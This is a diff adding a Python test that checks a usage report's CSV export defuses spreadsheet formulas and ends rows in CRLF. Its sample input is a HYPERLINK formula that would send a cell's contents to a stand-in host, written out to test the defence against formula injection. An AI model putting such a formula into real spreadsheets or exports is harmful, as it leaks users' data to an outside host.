@@ -133,3 +133,15 @@ def test_lines_with_wrongly_typed_fields_are_skipped_with_warnings_and_every_for
     assert not any(rid in out for rid in (",e,", ",f,", ",g,"))
     if fmt == "summary":
         assert out.splitlines()[1].startswith("Requests 4 (1 errors, 0 aborted)")
+
+
+def test_csv_defuses_a_formula_and_ends_rows_in_crlf(tmp_path):
+    formula = line("2026-11-23T10:05:00.000+01:00", rid="f") | {"finish_reason": '=HYPERLINK("http://x/?"&A1,"open")'}
+    (tmp_path / "usage.jsonl").write_text(json.dumps(formula) + "\n")
+    config = parse_config(json.dumps({"providers": {}, "ledger": {"enabled": True, "path": "usage.jsonl"}}),
+                          tmp_path / "llms.json", {})
+    out, _ = report(config, "csv")
+    header, row = out.split("\r\n")[:2]
+    assert header.startswith("timestamp,request_id,client,provider,model,provider_model,status,finish_reason,")
+    assert ',"\'=HYPERLINK(""http://x/?""&A1,""open"")",' in row
+    assert [r["finish_reason"] for r in csv.DictReader(io.StringIO(out))] == ['\'=HYPERLINK("http://x/?"&A1,"open")']
